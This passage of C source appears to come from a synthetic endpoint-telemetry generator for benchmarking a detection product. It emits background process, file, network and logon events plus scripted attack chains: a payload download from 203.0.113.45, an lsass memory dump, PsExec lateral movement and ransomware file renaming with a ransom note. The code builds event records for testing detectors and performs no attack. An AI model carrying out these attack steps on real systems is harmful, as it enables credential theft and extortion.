    p = sim_cat(sim_cat(buf, "CONTOSO\\"), sim_user_of(c->s, r->origin));
    *acct = vg_arena_strndup(c->a, buf, (size_t)(p - buf));
    /* A network logon gets a session of its own, apart from the interactive one. */
    lid = 0x110000 +
          (uint32_t)(sim_mix(c->s->o.seed ^ ((uint64_t)c->m->run << 32) ^ c->idx) & 0xfffff);
    p = sim_cat(buf, "0x");
    for (int i = 20; i >= 0; i -= 4)
        *p++ = hex[(lid >> i) & 15];
    *logon_id = vg_arena_strndup(c->a, buf, (size_t)(p - buf));
    return *acct != NULL && *logon_id != NULL ? 0 : -VG_ENOMEM;
}

static Vigil__ProcessRef *sim_make_ref(struct sim_ctx *c, int prog, uint32_t pid, int64_t ctime,
                                       uint32_t arg)
{
    static const Vigil__ProcessRef init = VIGIL__PROCESS_REF__INIT;
    const struct sim_prog *p = &sim_progs[prog];
    Vigil__ProcessRef *r = vg_arena_alloc(c->a, sizeof(*r));

    if (r == NULL)
        return NULL;
    *r = init;
    r->pid = pid;
    r->creation_time_us = ctime;
    /* Most templates have nothing to expand; sim_init_hashes noted which do. */
    const uint8_t x = c->s->pexp[prog];

    r->image = x & 1 ? sim_expand(c, p->image, arg) : (char *)p->image;
    r->command_line = x & 2 ? sim_expand(c, p->cmdline, arg) : (char *)p->cmdline;
    r->current_directory = x & 4 ? sim_expand(c, p->cwd, arg) : (char *)p->cwd;
    if (r->image == NULL || r->command_line == NULL || r->current_directory == NULL)
        return NULL;
    r->sha256 = (char *)c->s->ph[prog].sha256;
    r->sha1 = (char *)c->s->ph[prog].sha1;
    r->md5 = (char *)c->s->ph[prog].md5;
    r->account = (char *)sim_account(c, p->acct);
    r->integrity_level = (char *)sim_il_names[p->il];
    r->original_file_name = (char *)sim_basename(p->image);
    r->logon_id = (char *)sim_logon_id(c, p->acct);
    if (p->acct == A_STOLEN && sim_stolen(c, &r->account, &r->logon_id) < 0)
        return NULL;
    return r;
}

/* The ProcessRef of an actor id, built once per batch. */
static Vigil__ProcessRef *sim_ref(struct sim_ctx *c, int act)
{
    Vigil__ProcessRef **cache;

    if (act < SIM_ACT_SLOT) {
        cache = &c->ref_static[act];
        if (*cache == NULL)
            *cache = sim_make_ref(c, sim_static_prog(c, act), sim_static_pid(c, act),
                                  sim_static_ctime(c, act), (uint32_t)(c->h >> 20) % 9000 + 1000);
    } else {
        struct sim_slot *sl = &c->m->slot[act - SIM_ACT_SLOT];

        cache = &c->ref_slot[act - SIM_ACT_SLOT];
        if (*cache == NULL)
            *cache = sim_make_ref(c, sl->prog, sl->pid, sl->ctime, sl->arg);
    }
    return *cache;
}

static bool sim_pid_live(const struct sim_machine *m, uint32_t pid)
{
    int i;

    for (i = 0; i < SIM_SLOTS; i++)
        if ((m->slot[i].flags & SIM_SLOT_LIVE) && m->slot[i].pid == pid)
            return true;
    return false;
}

/* Windows hands out multiples of 4 from a small pool, so pids come back quickly; Linux
 * counts up to pid_max (32768 here) and wraps. Both skip pids still in use. */
static uint32_t sim_new_pid(struct sim_machine *m)
{
    uint32_t pid;

    do {
        if (m->os == OS_W) {
            pid = 4 * (256 + sim_below(m, 2048));
        } else {
            m->pid_next += 1 + sim_below(m, 4);
            if (m->pid_next >= 32768)
                m->pid_next = 1000 + sim_below(m, 64);
            pid = m->pid_next;
        }
    } while (sim_pid_live(m, pid));
    return pid;
}

/* Starts program prog in a free slot; returns its actor id, or -1 when no slot is free. */
static int sim_slot_start(struct sim_ctx *c, int prog, int64_t ts, bool pinned)
{
    struct sim_machine *m = c->m;
    int i;

    for (i = 0; i < SIM_SLOTS; i++) {
        struct sim_slot *sl = &m->slot[i];

        if (sl->flags & SIM_SLOT_LIVE)
            continue;
        sl->pid = sim_new_pid(m);
        sl->ctime = ts;
        sl->prog = (uint8_t)prog;
        sl->arg = (uint16_t)sim_rand(m);
        sl->flags = SIM_SLOT_LIVE | (pinned ? SIM_SLOT_PINNED : 0);
        c->ref_slot[i] = NULL;
        return SIM_ACT_SLOT + i;
    }
    return -1;
}

/* Live slots random activity may use, as actor ids; returns how many. */
static int sim_random_slots(const struct sim_machine *m, int *acts)
{
    int i, n = 0;

    for (i = 0; i < SIM_SLOTS; i++)
        if ((m->slot[i].flags & (SIM_SLOT_LIVE | SIM_SLOT_PINNED)) == SIM_SLOT_LIVE)
            acts[n++] = SIM_ACT_SLOT + i;
    return n;
}

static int sim_find_prog(const struct sim_machine *m, int prog)
{
    int i;

    for (i = 0; i < SIM_SLOTS; i++)
        if ((m->slot[i].flags & (SIM_SLOT_LIVE | SIM_SLOT_PINNED)) == SIM_SLOT_LIVE &&
            m->slot[i].prog == prog)
            return SIM_ACT_SLOT + i;
    return -1;
}

static int sim_pick_dyn(struct sim_ctx *c)
{
    uint8_t os = c->m->os;
    uint32_t total = 0, r;
    int i;

    for (i = 0; i < P__COUNT; i++)
        if (sim_progs[i].role == R_DYN && sim_progs[i].os == os)
            total += sim_progs[i].weight;
    r = sim_below(c->m, total);
    for (i = 0; i < P__COUNT; i++) {
        if (sim_progs[i].role != R_DYN || sim_progs[i].os != os)
            continue;
        if (r < sim_progs[i].weight)
            return i;
        r -= sim_progs[i].weight;
    }
    return os == OS_W ? P_W_CMD : P_L_LS;
}

/* The program an actor id runs. */
static int sim_act_prog(const struct sim_ctx *c, int act)
{
    if (act < SIM_ACT_SLOT)
        return sim_static_prog(c, act);
    return c->m->slot[act - SIM_ACT_SLOT].prog;
}

/* Maps a static program to the actor id of that static process. */
static int sim_static_act(const struct sim_ctx *c, int prog)
{
    return c->m->os == OS_W ? prog : prog - P_L_SYSTEMD;
}

/* ---- helpers: events -------------------------------------------------------------- */

static void sim_count(struct sim_ctx *c, enum bench_sim_kind k)
{
    c->s->st.by_kind[k]++;
}

static int sim_ev_create(struct sim_ctx *c, Vigil__Event *ev, int parent, int child)
{
    static const Vigil__ProcessCreated init = VIGIL__PROCESS_CREATED__INIT;
    Vigil__ProcessCreated *pc = vg_arena_alloc(c->a, sizeof(*pc));

    if (pc == NULL)
        return -VG_ENOMEM;
    *pc = init;
    ev->actor = sim_ref(c, parent);
    pc->process = sim_ref(c, child);
    if (ev->actor == NULL || pc->process == NULL)
        return -VG_ENOMEM;
    ev->kind_case = VIGIL__EVENT__KIND_PROCESS_CREATED;
    ev->process_created = pc;
    sim_count(c, BENCH_SIM_PROC_CREATE);
    return 0;
}

/* The actor's ref is taken before the slot is freed; the slot keeps its ref cached for the
 * rest of the batch until it is reused. */
static int sim_ev_exit(struct sim_ctx *c, Vigil__Event *ev, int act, int32_t code)
{
    static const Vigil__ProcessExited init = VIGIL__PROCESS_EXITED__INIT;
    Vigil__ProcessExited *pe = vg_arena_alloc(c->a, sizeof(*pe));

    if (pe == NULL)
        return -VG_ENOMEM;
    *pe = init;
    pe->exit_code = code;
    ev->actor = sim_ref(c, act);
    if (ev->actor == NULL)
        return -VG_ENOMEM;
    ev->kind_case = VIGIL__EVENT__KIND_PROCESS_EXITED;
    ev->process_exited = pe;
    if (act >= SIM_ACT_SLOT)
        c->m->slot[act - SIM_ACT_SLOT].flags = 0;
    sim_count(c, BENCH_SIM_PROC_EXIT);
    return 0;
}

static int sim_ev_file(struct sim_ctx *c, Vigil__Event *ev, int act, Vigil__FileOp op, char *path,
                       char *prev, char *sha256, uint64_t size)
{
    static const Vigil__FileEvent init = VIGIL__FILE_EVENT__INIT;
    Vigil__FileEvent *f = vg_arena_alloc(c->a, sizeof(*f));

    if (f == NULL || path == NULL || (ev->actor = sim_ref(c, act)) == NULL)
        return -VG_ENOMEM;
    *f = init;
    f->op = op;
    f->path = path;
    if (prev != NULL)
        f->previous_path = prev;
    if (sha256 != NULL)
        f->sha256 = sha256;
    f->size = size;
    ev->kind_case = VIGIL__EVENT__KIND_FILE;
    ev->file = f;
    sim_count(c, BENCH_SIM_FILE);
    return 0;
}

static int sim_ev_net(struct sim_ctx *c, Vigil__Event *ev, int act, const char *ip, uint32_t port,
                      const char *host, const char *url)
{
    static const Vigil__NetworkConnection init = VIGIL__NETWORK_CONNECTION__INIT;
    Vigil__NetworkConnection *n = vg_arena_alloc(c->a, sizeof(*n));

    if (n == NULL || ip == NULL || (ev->actor = sim_ref(c, act)) == NULL)
        return -VG_ENOMEM;
    *n = init;
    n->protocol = VIGIL__PROTOCOL__PROTOCOL_TCP;
    n->local_ip = c->local_ip;
    n->local_port = 49152 + sim_below(c->m, 16384);
    n->remote_ip = (char *)ip;
    n->remote_port = port;
    if (host != NULL)
        n->remote_hostname = (char *)host;
    if (url != NULL)
        n->url = (char *)url;
    ev->kind_case = VIGIL__EVENT__KIND_NETWORK;
    ev->network = n;
    sim_count(c, BENCH_SIM_NETWORK);
    return 0;
}

static int sim_ev_logon(struct sim_ctx *c, Vigil__Event *ev, int act, uint32_t type,
                        const char *account, const char *src_ip, const char *ws, bool ok)
{
    static const Vigil__LogonEvent init = VIGIL__LOGON_EVENT__INIT;
    Vigil__LogonEvent *l = vg_arena_alloc(c->a, sizeof(*l));
    const char *bs;

    if (l == NULL || account == NULL || (ev->actor = sim_ref(c, act)) == NULL)
        return -VG_ENOMEM;
    *l = init;
    l->success = ok;
    l->logon_type = type;
    bs = strchr(account, '\\');
    if (bs != NULL) {
        l->account_domain = vg_arena_strndup(c->a, account, (size_t)(bs - account));
        l->account = (char *)bs + 1;
        if (l->account_domain == NULL)
            return -VG_ENOMEM;
    } else {
        l->account = (char *)account;
    }
    l->source_ip = (char *)(src_ip != NULL ? src_ip : "");
    l->source_port = src_ip != NULL ? 49152 + sim_below(c->m, 16384) : 0;
    l->workstation = (char *)(ws != NULL ? ws : "");
    l->logon_id = c->logon_id;
    l->auth_package = (char *)(c->m->os == OS_L ? "" : type == 3 ? "NTLM" : "Negotiate");
    if (!ok)
        l->failure_reason = (char *)"Unknown user name or bad password.";
    ev->kind_case = VIGIL__EVENT__KIND_LOGON;
    ev->logon = l;
    sim_count(c, BENCH_SIM_LOGON);
    return 0;
}

/* ---- random activity ------------------------------------------------------------- */

static int sim_pick_actor(struct sim_ctx *c)
{
    int acts[SIM_SLOTS];
    int n = sim_random_slots(c->m, acts);

    uint32_t r = sim_below(c->m, 100);

    if (n > 0 && r < 60)
        return acts[sim_below(c->m, (uint32_t)n)];
    if (r >= 75) /* the user's shell is busier than any one service */
        return sim_static_act(c, c->m->os == OS_W ? P_W_EXPLORER : P_L_BASH_LOGIN);
    return (int)sim_below(c->m, (uint32_t)sim_nstatic(c));
}

static int sim_gen_proc(struct sim_ctx *c, Vigil__Event *ev)
{
    int acts[SIM_SLOTS], prog, parent, child;
    int n = sim_random_slots(c->m, acts);
    bool start = n == 0 || (n < SIM_RANDOM_CAP && (sim_rand(c->m) & 1));

    if (!start)
        return sim_ev_exit(c, ev, acts[sim_below(c->m, (uint32_t)n)],
                           sim_below(c->m, 50) == 0 ? 1 : 0);
    prog = sim_pick_dyn(c);
    parent = sim_progs[prog].parent_p >= 0 ? sim_find_prog(c->m, sim_progs[prog].parent_p) : -1;
    if (parent < 0)
        parent = sim_static_act(c, sim_progs[prog].parent);
    child = sim_slot_start(c, prog, ev->ts_us, false);
    if (VG_NEVER(child < 0))
        return sim_ev_exit(c, ev, acts[0], 0);
    return sim_ev_create(c, ev, parent, child);
}

static int sim_gen_file(struct sim_ctx *c, Vigil__Event *ev)
{
    bool lnx = c->m->os == OS_L;
    int act = sim_pick_actor(c);
    bool user = sim_progs[sim_act_prog(c, act)].acct == A_USER;
    const char *t;
    uint32_t r, num;
    char *path, *prev = NULL, *sha = NULL;
    Vigil__FileOp op;

#define SIM_PICK(arr) arr[sim_below(c->m, VG_ARRAY_SIZE(arr))]
    if (lnx)
        t = user ? SIM_PICK(sim_files_l_user) : SIM_PICK(sim_files_l_sys);
    else
        t = user ? SIM_PICK(sim_files_w_user) : SIM_PICK(sim_files_w_sys);
#undef SIM_PICK
    r = sim_below(c->m, 100);
    num = sim_below(c->m, 100000);
    path = sim_expand(c, t, num);
    if (path == NULL)
        return -VG_ENOMEM;

    if (r < 30) {
        op = VIGIL__FILE_OP__FILE_CREATED;
        sha = sim_random_hex(c, 64);
    } else if (r < 65) {
        op = VIGIL__FILE_OP__FILE_MODIFIED;
        sha = sim_random_hex(c, 64);
    } else if (r < 80) {
        op = VIGIL__FILE_OP__FILE_READ;
    } else if (r < 90) {
        op = VIGIL__FILE_OP__FILE_DELETED;
    } else {
        size_t n = strlen(path);

        /* saved under a temporary name, then renamed into place, as editors do */
        op = VIGIL__FILE_OP__FILE_RENAMED;
        prev = vg_arena_alloc(c->a, n + 5);
        if (prev == NULL)
            return -VG_ENOMEM;
        memcpy(prev, path, n);
        memcpy(prev + n, ".tmp", 5);
    }
    if (op <= VIGIL__FILE_OP__FILE_MODIFIED && sha == NULL)
        return -VG_ENOMEM;
    return sim_ev_file(c, ev, act, op, path, prev, sha, 512 + sim_below(c->m, 1u << 22));
}

static int sim_gen_net(struct sim_ctx *c, Vigil__Event *ev)
{
    static const int svc_w[] = {P_W_SVC_NETSVCS, P_W_SVC_NETWORK, P_W_MSSENSE, P_W_MSMPENG,
                                P_W_EXPLORER};
    static const int svc_l[] = {P_L_SSHD, P_L_WDAV, P_L_NGINX, P_L_DOCKERD, P_L_RESOLVED};
    const struct sim_host *h = &sim_hosts[sim_below(c->m, VG_ARRAY_SIZE(sim_hosts))];
    int act;

    if (sim_below(c->m, 2) == 0)
        act = sim_pick_actor(c);
    else if (c->m->os == OS_W)
        act = sim_static_act(c, svc_w[sim_below(c->m, VG_ARRAY_SIZE(svc_w))]);
    else
        act = sim_static_act(c, svc_l[sim_below(c->m, VG_ARRAY_SIZE(svc_l))]);
    if (h->ip[0] == '1' && h->ip[1] == '0' && h->ip[2] == '.')
        return sim_ev_net(c, ev, act, h->ip, sim_below(c->m, 2) ? 445 : 389, h->name, NULL);
    return sim_ev_net(c, ev, act, h->ip, 443, h->name, NULL);
}

static int sim_gen_dns(struct sim_ctx *c, Vigil__Event *ev)
{
    static const Vigil__DnsQuery init = VIGIL__DNS_QUERY__INIT;
    const struct sim_host *h = &sim_hosts[sim_below(c->m, VG_ARRAY_SIZE(sim_hosts))];
    Vigil__DnsQuery *d = vg_arena_alloc(c->a, sizeof(*d));
    int act;

    if (d == NULL)
        return -VG_ENOMEM;
    if (sim_below(c->m, 10) < 7)
        act = sim_static_act(c, c->m->os == OS_W ? P_W_SVC_NETWORK : P_L_RESOLVED);
    else
        act = sim_pick_actor(c);
    if ((ev->actor = sim_ref(c, act)) == NULL)
        return -VG_ENOMEM;
    *d = init;
    d->query_name = (char *)h->name;
    d->query_type = 1;
    d->results = (char *)h->ip;
    ev->kind_case = VIGIL__EVENT__KIND_DNS;
    ev->dns = d;
    sim_count(c, BENCH_SIM_DNS);
    return 0;
}

static int sim_gen_registry(struct sim_ctx *c, Vigil__Event *ev)
{
    static const Vigil__RegistryEvent init = VIGIL__REGISTRY_EVENT__INIT;
    const struct sim_regval *v = &sim_reg[sim_below(c->m, VG_ARRAY_SIZE(sim_reg))];
    Vigil__RegistryEvent *r = vg_arena_alloc(c->a, sizeof(*r));
    uint32_t x = sim_below(c->m, 100);

    if (r == NULL || (ev->actor = sim_ref(c, sim_pick_actor(c))) == NULL)
        return -VG_ENOMEM;
    *r = init;
    r->key = (char *)v->key;
    if (x < 80) {
        r->op = VIGIL__REGISTRY_OP__REGISTRY_VALUE_SET;
        r->value_name = (char *)v->name;
        r->value_type = (char *)v->type;
        r->value_data = (char *)v->data;
    } else if (x < 92) {
        r->op = VIGIL__REGISTRY_OP__REGISTRY_KEY_CREATED;
    } else {
        r->op = VIGIL__REGISTRY_OP__REGISTRY_VALUE_DELETED;
        r->value_name = (char *)v->name;
    }
    ev->kind_case = VIGIL__EVENT__KIND_REGISTRY;
    ev->registry = r;
    sim_count(c, BENCH_SIM_REGISTRY);
    return 0;
}

static int sim_gen_logon(struct sim_ctx *c, Vigil__Event *ev)
{
    uint32_t x = sim_below(c->m, 100);
    bool ok = sim_below(c->m, 100) >= 3;

    if (c->m->os == OS_L)
        return sim_ev_logon(c, ev, sim_static_act(c, P_L_SSHD), 10, c->account_user, "10.0.0.20",
                            "", ok);
    if (x < 40)
        return sim_ev_logon(c, ev, P_W_LSASS, 5, "NT AUTHORITY\\SYSTEM", NULL, NULL, true);
    if (x < 75)
        return sim_ev_logon(c, ev, P_W_LSASS, 3, c->account_user, "10.0.0.10", "DC01", ok);
    if (x < 95)
        return sim_ev_logon(c, ev, P_W_LSASS, 7, c->account_user, "127.0.0.1", c->name, ok);
    return sim_ev_logon(c, ev, P_W_LSASS, 2, c->account_user, "127.0.0.1", c->name, ok);
}

static int sim_gen_image(struct sim_ctx *c, Vigil__Event *ev)
{
    static const Vigil__ImageLoad init = VIGIL__IMAGE_LOAD__INIT;
    bool lnx = c->m->os == OS_L;
    uint32_t k = sim_below(c->m, lnx ? SIM_NDLL_L : SIM_NDLL_W);
    Vigil__ImageLoad *il = vg_arena_alloc(c->a, sizeof(*il));

    if (il == NULL || (ev->actor = sim_ref(c, sim_pick_actor(c))) == NULL)
        return -VG_ENOMEM;
    *il = init;
    il->path = (char *)(lnx ? sim_dlls_l[k] : sim_dlls_w[k]);
    il->sha256 = lnx ? c->s->dll_l[k] : c->s->dll_w[k];
    il->signed_ = !lnx;
    il->signer = (char *)(lnx ? "" : "Microsoft Windows");
    ev->kind_case = VIGIL__EVENT__KIND_IMAGE_LOAD;
    ev->image_load = il;
    sim_count(c, BENCH_SIM_IMAGE_LOAD);
    return 0;
}

static int sim_gen_software(struct sim_ctx *c, Vigil__Event *ev)
{
    static const Vigil__SoftwareInventory init = VIGIL__SOFTWARE_INVENTORY__INIT;
    bool lnx = c->m->os == OS_L;
    const struct sim_sw *w = lnx ? &sim_sw_l[sim_below(c->m, VG_ARRAY_SIZE(sim_sw_l))]
                                 : &sim_sw_w[sim_below(c->m, VG_ARRAY_SIZE(sim_sw_w))];
    Vigil__SoftwareInventory *sw = vg_arena_alloc(c->a, sizeof(*sw));

    if (sw == NULL ||
        (ev->actor = sim_ref(c, sim_static_act(c, lnx ? P_L_WDAV : P_W_MSSENSE))) == NULL)
        return -VG_ENOMEM;
    *sw = init;
    sw->name = (char *)w->name;
    sw->version = (char *)w->version;
    sw->vendor = (char *)w->vendor;
    ev->kind_case = VIGIL__EVENT__KIND_SOFTWARE;
    ev->software = sw;
    sim_count(c, BENCH_SIM_SOFTWARE);
    return 0;
}

/* The mix, per mille. File and network dominate, as in real EDR telemetry; Linux has no
 * registry and loads fewer images, its share goes to files. */
static int sim_gen_random(struct sim_ctx *c, Vigil__Event *ev)
{
    uint32_t r = sim_below(c->m, 1000);

    if (c->m->os == OS_W) {
        if (r < 330)
            return sim_gen_file(c, ev);
        if (r < 550)
            return sim_gen_net(c, ev);
        if (r < 690)
            return sim_gen_registry(c, ev);
        if (r < 780)
            return sim_gen_proc(c, ev);
        if (r < 860)
            return sim_gen_dns(c, ev);
        if (r < 960)
            return sim_gen_image(c, ev);
        if (r < 998)
            return sim_gen_logon(c, ev);
        return sim_gen_software(c, ev);
    }
    if (r < 430)
        return sim_gen_file(c, ev);
    if (r < 680)
        return sim_gen_net(c, ev);
    if (r < 800)
        return sim_gen_proc(c, ev);
    if (r < 900)
        return sim_gen_dns(c, ev);
    if (r < 940)
        return sim_gen_logon(c, ev);
    if (r < 998)
        return sim_gen_image(c, ev);
    return sim_gen_software(c, ev);
}

/* One event at the machine's next time: a due scenario step, else random activity. The
 * next time is the earlier of a random gap and the running scenario's next step. */
static int sim_gen_event(struct sim_ctx *c, Vigil__Event *ev)
{
    struct sim_machine *m = c->m;
    bench_sim *s = c->s;
    struct sim_run *r = m->run != SIM_NO_RUN ? &s->runs[m->run] : NULL;
    int64_t ts = m->next_ts, next, step_gap = 0;
    int err;

    ev->seq = m->seq++;
    ev->ts_us = ts;
    if (r != NULL && r->at_us <= ts) {
        err = sim_run_step(c, r, ev, &step_gap);
        s->st.scenario_events++;
        if (err == 1) { /* the run is over; the next one on this machine may start */
            m->run = r->next;
            m->run_step = 0;
            r = m->run != SIM_NO_RUN ? &s->runs[m->run] : NULL;
        } else {
            r->at_us = ts + step_gap;
        }
    } else {
        err = sim_gen_random(c, ev);
    }
    if (err < 0)
        return err;
    next = ts + s->gap_us / 2 + (int64_t)(sim_rand(m) % (uint64_t)(s->gap_us + 1));
    if (r != NULL && r->at_us < next)
        next = r->at_us > ts ? r->at_us : ts;
    m->next_ts = next;
    return 0;
}

/* ---- scenarios -------------------------------------------------------------------- */

static void sim_truth_hit(struct sim_ctx *c, const struct sim_run *r, uint32_t which,
                          const Vigil__Event *ev)
{
    struct bench_sim_truth *t = &c->s->truth[r->truth + which].pub;

    t->emitted = true;
    t->ts_us = ev->ts_us;
    t->seq = ev->seq;
}

/* Starts a pinned scenario process; records its actor id in r->act[k]. */
static int sim_sc_create(struct sim_ctx *c, struct sim_run *r, Vigil__Event *ev, int parent,
                         int prog, int k)
{
    int child = sim_slot_start(c, prog, ev->ts_us, true);

    if (VG_NEVER(child < 0))
        return -VG_EINVAL;
    r->act[k] = (int8_t)child;
    return sim_ev_create(c, ev, parent, child);
}

static int sim_step_win_ref(struct sim_ctx *c, struct sim_run *r, Vigil__Event *ev, int64_t *gap)
{
    int err;

    *gap = 300 * 1000;
    switch (c->m->run_step) {
    case 0:
        return sim_sc_create(c, r, ev, P_W_EXPLORER, P_S_CMD, 0);
    case 1:
        err = sim_sc_create(c, r, ev, r->act[0], P_S_PS_REF, 1);
        sim_truth_hit(c, r, 0, ev);
        return err;
    case 2:
        return sim_ev_net(c, ev, r->act[1], "127.0.0.1", 80, "", "http://127.0.0.1/1.exe");
    case 3:
        *gap = 5 * VG_US_PER_SEC; /* -NoExit: the window stays a while */
        return sim_ev_file(c, ev, r->act[1], VIGIL__FILE_OP__FILE_CREATED,
                           (char *)BENCH_SIM_WIN_REF_FILE, NULL, NULL, 0);
    case 4:
        return sim_ev_exit(c, ev, r->act[1], 0);
    default:
        err = sim_ev_exit(c, ev, r->act[0], 0);
        return err < 0 ? err : 1;
    }
}

static int sim_step_lnx_ref(struct sim_ctx *c, struct sim_run *r, Vigil__Event *ev, int64_t *gap)
{
    unsigned st = c->m->run_step;
    int err;

    *gap = 100 * 1000;
    if (st == 0)
        return sim_sc_create(c, r, ev, sim_static_act(c, P_L_BASH_LOGIN), P_S_LNX_SCRIPT, 0);
    if (st <= 2 * SIM_LNX_KIDS) {
        if (st % 2 == 0)
            return sim_ev_exit(c, ev, r->act[1], 0);
        err = sim_sc_create(c, r, ev, r->act[0], P_S_LNX_KID0 + (int)(st - 1) / 2, 1);
        if (st == 1)
            sim_truth_hit(c, r, 0, ev);
        return err;
    }
    err = sim_ev_exit(c, ev, r->act[0], 0);
    return err < 0 ? err : 1;
}

static int sim_step_chain_a(struct sim_ctx *c, struct sim_run *r, Vigil__Event *ev, int64_t *gap)
{
    char ip[32];
    int err;

    *gap = 400 * 1000;
    switch (c->m->run_step) {
    case 0:
        return sim_sc_create(c, r, ev, P_W_EXPLORER, P_S_WINWORD_DOC, 0);
    case 1:
        err = sim_sc_create(c, r, ev, r->act[0], P_S_PS_ENC, 1);
        sim_truth_hit(c, r, 0, ev);
        return err;
    case 2:
        return sim_ev_net(c, ev, r->act[1], "203.0.113.45", 80, "", "http://203.0.113.45/p.exe");
    case 3:
        return sim_ev_file(c, ev, r->act[1], VIGIL__FILE_OP__FILE_CREATED,
                           (char *)"C:\\Users\\Public\\p.exe", NULL,
                           (char *)c->s->ph[P_S_PROCDUMP].sha256, 415112);
    case 4:
        err = sim_sc_create(c, r, ev, r->act[1], P_S_PROCDUMP, 2);
        sim_truth_hit(c, r, 1, ev);
        return err;
    case 5:
        return sim_ev_file(c, ev, r->act[2], VIGIL__FILE_OP__FILE_CREATED,
                           (char *)"C:\\Windows\\Temp\\lsass.dmp", NULL, sim_random_hex(c, 64),
                           52428800);
    case 6:
        return sim_ev_exit(c, ev, r->act[2], 0);
    case 7:
        sim_fmt_ip(c->s, r->peer, ip);
        return sim_ev_net(c, ev, r->act[1], vg_arena_strndup(c->a, ip, strlen(ip)), 445, "", NULL);
    case 8:
        return sim_ev_exit(c, ev, r->act[1], 0);
    default:
        err = sim_ev_exit(c, ev, r->act[0], 0);
        return err < 0 ? err : 1;
    }
}

/* A network logon from the peer machine with the account stolen on the chain's first
 * machine, as an SMB session from it looks; its session is the one the programs the
 * attacker starts here run in (sim_stolen). */
static int sim_sc_peer_logon(struct sim_ctx *c, const struct sim_run *r, Vigil__Event *ev)
{
    char ip[16], name[SIM_ID_MAX], *acct, *lid;
    int err;

    sim_fmt_ip(c->s, r->peer, ip);
    sim_fmt_ids(c->s, r->peer, NULL, name);
    if (sim_stolen(c, &acct, &lid) < 0)
        return -VG_ENOMEM;
    err = sim_ev_logon(c, ev, P_W_LSASS, 3, acct, vg_arena_strndup(c->a, ip, strlen(ip)),
                       vg_arena_strndup(c->a, name, strlen(name)), true);
    if (err == 0)
        ev->logon->logon_id = lid;
    return err;
}

static int sim_step_chain_b(struct sim_ctx *c, struct sim_run *r, Vigil__Event *ev, int64_t *gap)
{
    int err;

    *gap = 300 * 1000;
    switch (c->m->run_step) {
    case 0:
        return sim_sc_peer_logon(c, r, ev);
    case 1:
        return sim_ev_file(c, ev, P_W_SYSTEM, VIGIL__FILE_OP__FILE_CREATED,
                           (char *)"C:\\Windows\\PSEXESVC.exe", NULL,
                           (char *)c->s->ph[P_S_PSEXESVC].sha256, 383872);
    case 2:
        err = sim_sc_create(c, r, ev, P_W_SERVICES, P_S_PSEXESVC, 0);
        sim_truth_hit(c, r, 0, ev);
        return err;
    case 3:
        return sim_sc_create(c, r, ev, r->act[0], P_S_WHOAMI, 1);
    case 4:
        return sim_ev_exit(c, ev, r->act[1], 0);
    default:
        err = sim_ev_exit(c, ev, r->act[0], 0);
        return err < 0 ? err : 1;
    }
}

static int sim_step_chain_c(struct sim_ctx *c, struct sim_run *r, Vigil__Event *ev, int64_t *gap)
{
    static const char *const docs[] = {"Report", "Budget", "Invoice", "Contract", "Minutes"};
    static const char *const exts[] = {"docx", "xlsx", "pdf", "pptx"};
    unsigned st = c->m->run_step;
    char from[256];
    int err, n;

    *gap = 300 * 1000;
    if (st == 0)
        return sim_sc_peer_logon(c, r, ev);
    if (st == 1)
        return sim_ev_file(c, ev, P_W_SYSTEM, VIGIL__FILE_OP__FILE_CREATED,
                           (char *)"C:\\Windows\\Temp\\locker.exe", NULL,
                           (char *)c->s->ph[P_S_LOCKER].sha256, 1187840);
    if (st == 2)
        return sim_sc_create(c, r, ev, P_W_SERVICES, P_S_LOCKER, 0);
    if (st < 3 + SIM_RENAMES) {
        unsigned k = st - 3;
        char *prev, *path;

        *gap = 2000;
        n = snprintf(from, sizeof(from), "C:\\Users\\%s\\Documents\\%s-%03u.%s", c->user,
                     docs[k % VG_ARRAY_SIZE(docs)], k, exts[k % VG_ARRAY_SIZE(exts)]);
        if (n < 0 || (size_t)n >= sizeof(from))
            return -VG_EINVAL;
        prev = vg_arena_strndup(c->a, from, (size_t)n);
        path = vg_arena_alloc(c->a, (size_t)n + 8);
        if (prev == NULL || path == NULL)
            return -VG_ENOMEM;
        memcpy(path, from, (size_t)n);
        memcpy(path + n, ".locked", 8);
        err = sim_ev_file(c, ev, r->act[0], VIGIL__FILE_OP__FILE_RENAMED, path, prev, NULL,
                          4096 + k * 512);
        if (k == 0)
            sim_truth_hit(c, r, 0, ev);
        return err;
    }
    if (st == 3 + SIM_RENAMES) {
        n = snprintf(from, sizeof(from), "C:\\Users\\%s\\Documents\\README_RESTORE_FILES.txt",
                     c->user);
        if (n < 0 || (size_t)n >= sizeof(from))
            return -VG_EINVAL;
        return sim_ev_file(c, ev, r->act[0], VIGIL__FILE_OP__FILE_CREATED,
                           vg_arena_strndup(c->a, from, (size_t)n), NULL, sim_random_hex(c, 64),
                           1024);
    }
    err = sim_ev_exit(c, ev, r->act[0], 0);
    return err < 0 ? err : 1;
}

/* Emits the run's next step into ev. Returns 0 (more steps follow, *gap until the next),
 * 1 (that was the last step) or a negative error. */
static int sim_run_step(struct sim_ctx *c, struct sim_run *r, Vigil__Event *ev, int64_t *gap)
{
    int ret;

    switch (r->kind) {
    case RUN_WIN_REF:
        ret = sim_step_win_ref(c, r, ev, gap);
        break;
    case RUN_LNX_REF:
        ret = sim_step_lnx_ref(c, r, ev, gap);
        break;
    case RUN_CHAIN_A:
        ret = sim_step_chain_a(c, r, ev, gap);
        break;
    case RUN_CHAIN_B:
        ret = sim_step_chain_b(c, r, ev, gap);
        break;
    default:
        ret = sim_step_chain_c(c, r, ev, gap);
        break;
    }
    if (ret == 0)
        c->m->run_step++;
    return ret;
}
